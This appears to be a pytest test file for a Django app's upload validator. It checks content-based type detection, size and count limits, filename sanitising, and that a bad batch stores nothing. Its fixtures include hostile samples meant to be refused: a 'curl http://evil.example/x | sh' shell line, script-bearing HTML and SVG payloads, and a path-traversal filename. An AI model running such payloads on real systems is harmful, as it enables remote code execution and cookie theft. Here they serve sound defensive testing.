"""Uploads are checked by their content, their name must agree, and a bad one stores nothing."""

from __future__ import annotations

import base64
import io
import struct
import zipfile
import zlib
from pathlib import Path

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from openpyxl import Workbook

from ieum.core import uploads
from ieum.core.uploads import check_upload
from ieum.linkage.drafts import create_request
from ieum.linkage.enums import RequestStatus, ServiceType
from ieum.linkage.models import RequestFile, RequestMessage, ServiceRequest
from ieum.linkage.threads import post_message
from tests.linkage.factories import make_world, pdf_upload

PDF = b"%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"
# The smallest baseline JPEG: SOI, JFIF header, quantisation table, frame, Huffman table,
# scan and EOI.
JPEG = base64.b64decode(
    "/9j/4AAQSkZJRgABAQEASABIAAD/2wBDAP//////////////////////////////////////////////////"
    "////////////////////////////////////wgALCAABAAEBAREA/8QAFBABAAAAAAAAAAAAAAAAAAAAAP/a"
    "AAgBAQABPxA="
)
ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 120
EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + b"\x00" * 120
HTML = b"<!DOCTYPE html><html><body><script>fetch('/steal')</script></body></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.cookie)</script></svg>'
SHELL = b"#!/bin/sh\ncurl http://evil.example/x | sh\n"
OFFICE_TYPES = "application/vnd.openxmlformats-officedocument"


@pytest.fixture
def world(db):
    return make_world()


def png() -> bytes:
    """A 1×1 grey PNG, chunk by chunk."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        crc = zlib.crc32(kind + data) & 0xFFFFFFFF
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", crc)

    header = struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(b"\x00\x80"))
        + chunk(b"IEND", b"")
    )


def ooxml(main_part: str) -> bytes:
    """A minimal Office Open XML package: content types, relations, the main part."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as package:
        package.writestr(
            "[Content_Types].xml",
            '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/'
            'package/2006/content-types"/>',
        )
        package.writestr("_rels/.rels", '<?xml version="1.0"?><Relationships/>')
        package.writestr(main_part, '<?xml version="1.0"?><document/>')
    return buffer.getvalue()


def xlsx() -> bytes:
    book = Workbook()
    book.active["A1"] = "환자 수"
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def upload(name: str, content: bytes) -> SimpleUploadedFile:
    # The browser's claimed type is ignored: say PDF for everything.
    return SimpleUploadedFile(name, content, content_type="application/pdf")


@pytest.mark.parametrize(
    ("name", "content", "mime"),
    [
        ("protocol.pdf", PDF, "application/pdf"),
        ("PROTOCOL.PDF", PDF, "application/pdf"),
        ("계획서.docx", ooxml("word/document.xml"), f"{OFFICE_TYPES}.wordprocessingml.document"),
        ("data.xlsx", xlsx(), f"{OFFICE_TYPES}.spreadsheetml.sheet"),
        ("deck.pptx", ooxml("ppt/presentation.xml"), f"{OFFICE_TYPES}.presentationml.presentation"),
        ("scan.png", png(), "image/png"),
        ("photo.jpg", JPEG, "image/jpeg"),
        ("photo.jpeg", JPEG, "image/jpeg"),
    ],
)
def test_real_documents_and_images_are_accepted(name, content, mime):
    checked = check_upload(upload(name, content))
    assert (checked.name, checked.content_type, checked.size) == (name, mime, len(content))
    # The file is left at its start for storing.
    assert checked.file.read() == content


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("invoice.pdf", HTML),
        ("report.pdf", SHELL),
        ("report.pdf", ELF),
        ("setup.pdf", EXE),
        ("setup.exe", EXE),
        ("page.html", HTML),
        ("logo.svg", SVG),
        ("logo.png", SVG),
        # Right content, name of another type: it would open as something else.
        ("scan.png", PDF),
        ("report.pdf", png()),
        ("data.docx", xlsx()),
        ("report", PDF),
        # A bare ZIP is no Office document.
        ("archive.docx", ooxml("payload/readme.xml")),
    ],
)
def test_files_that_are_not_what_they_claim_are_refused(english, name, content):
    with pytest.raises(ValidationError) as refused:
        check_upload(upload(name, content), field="files")
    [message] = refused.value.message_dict["files"]
    assert message == (
        f"The file “{name}” is not an accepted type. Upload PDF, Office documents "
        "(docx, xlsx, pptx, doc, xls, ppt) or images (PNG, JPEG, GIF, WebP)."
    )


def test_an_empty_file_is_refused(english):
    with pytest.raises(ValidationError) as refused:
        check_upload(upload("empty.pdf", b""))
    assert refused.value.message_dict == {"file": ["The file “empty.pdf” is empty."]}


def test_a_file_over_20_mb_is_refused_and_one_at_the_limit_taken(english):
    limit = 20 * 1024 * 1024
    assert limit == uploads.MAX_UPLOAD_BYTES
    at_limit = PDF + b"0" * (limit - len(PDF))
    assert check_upload(upload("big.pdf", at_limit)).size == limit
    with pytest.raises(ValidationError) as refused:
        check_upload(upload("too-big.pdf", at_limit + b"0"))
    assert refused.value.message_dict == {
        "file": ["The file “too-big.pdf” is larger than 20.0\xa0MB."]
    }


def test_the_limit_is_read_when_checking(english, monkeypatch):
    monkeypatch.setattr(uploads, "MAX_UPLOAD_BYTES", len(PDF) - 1)
    with pytest.raises(ValidationError, match="larger than"):
        check_upload(upload("protocol.pdf", PDF))


def test_the_name_loses_its_folders_but_keeps_its_extension(english):
    assert check_upload(upload("../../etc/report.pdf", PDF)).name == "report.pdf"
    long_name = "임상시험 결과 보고서 " * 30 + ".pdf"
    checked = check_upload(upload(long_name, PDF))
    assert len(checked.name) <= 200 and checked.name.endswith(".pdf")


# Through the domain: a batch with one bad file leaves nothing behind. ------------------


def stored_files(settings) -> list:
    root = settings.PRIVATE_MEDIA_ROOT
    return [path for path in root.rglob("*") if path.is_file()] if root.exists() else []


def batches():
    good, bad = pdf_upload("protocol.pdf"), upload("notes.pdf", HTML)
    yield [good, bad]
    yield [upload("notes.pdf", HTML), pdf_upload("protocol.pdf")]
    yield [pdf_upload("a.pdf"), SimpleUploadedFile("data.xlsx", xlsx()), upload("x.png", SVG)]


@pytest.mark.parametrize("batch", range(3))
def test_a_new_request_with_one_bad_file_stores_no_file_and_no_row(world, english, settings, batch):
    files = list(batches())[batch]
    data = {
        "service_type": ServiceType.CLINICAL_TRIAL_CONSULTING,
        "title": "임상 설계 자문",
        "description": "확증 임상 설계 검토",
    }
    with pytest.raises(ValidationError) as refused:
        create_request(actor=world.company_member, company=world.company, data=data, uploads=files)
    assert "is not an accepted type" in refused.value.message_dict["files"][0]
    assert ServiceRequest.objects.count() == 0
    assert RequestFile.objects.count() == 0
    assert stored_files(settings) == []


@pytest.mark.parametrize("batch", range(3))
def test_a_message_with_one_bad_file_stores_no_file_and_no_message(world, english, settings, batch):
    request = world.request(RequestStatus.SUBMITTED)
    files = list(batches())[batch]
    with pytest.raises(ValidationError):
        post_message(actor=world.staff, request=request, body="자료 보냅니다", uploads=files)
    assert RequestMessage.objects.filter(request=request).count() == 0
    assert RequestFile.objects.count() == 0
    assert stored_files(settings) == []


def test_good_files_go_to_private_storage_without_a_url(world, settings):
    request = world.request(RequestStatus.SUBMITTED)
    message = post_message(
        actor=world.company_member,
        request=request,
        body="자료 첨부",
        uploads=[pdf_upload("protocol.pdf"), SimpleUploadedFile("data.xlsx", xlsx())],
    )
    rows = list(RequestFile.objects.filter(message=message).order_by("original_name"))
    assert [(row.original_name, row.content_type) for row in rows] == [
        ("data.xlsx", f"{OFFICE_TYPES}.spreadsheetml.sheet"),
        ("protocol.pdf", "application/pdf"),
    ]
    root = settings.PRIVATE_MEDIA_ROOT.resolve()
    for row in rows:
        assert root in Path(row.file.path).resolve().parents
        with pytest.raises(ValueError):
            row.file.url  # noqa: B018
    assert len(stored_files(settings)) == 2


def test_a_file_with_a_very_long_name_is_stored_under_its_extension(world):
    request = world.request(RequestStatus.SUBMITTED)
    long_name = "임상시험 결과 보고서 " * 30 + ".pdf"
    message = post_message(
        actor=world.company_member, request=request, body="", uploads=[pdf_upload(long_name)]
    )
    row = RequestFile.objects.get(message=message)
    assert len(row.original_name) == 200 and row.original_name.endswith(".pdf")
    assert row.file.name.endswith(".pdf") and row.file.read().startswith(b"%PDF")


def test_more_than_ten_files_at_once_are_refused(world, english, settings):
    request = world.request(RequestStatus.SUBMITTED)
    files = [pdf_upload(f"part-{index}.pdf") for index in range(11)]
    with pytest.raises(ValidationError) as refused:
        post_message(actor=world.company_member, request=request, body="", uploads=files)
    assert refused.value.message_dict == {"files": ["Attach at most 10 files at once."]}
    assert RequestFile.objects.count() == 0 and stored_files(settings) == []
